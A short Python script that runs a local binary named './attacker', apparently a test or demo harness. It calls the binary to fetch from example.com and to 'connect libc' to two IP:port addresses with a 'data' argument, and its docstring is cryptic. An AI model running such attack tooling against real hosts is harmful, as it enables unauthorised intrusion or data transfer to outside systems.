"""A name's other port, and its neighbour's address."""
import subprocess

subprocess.run(["./attacker", "fetch", "example.com", "80"])
for address in ("93.184.216.34:9000", "93.184.216.35:80"):
    subprocess.run(["./attacker", "connect", "libc", address, "data"])
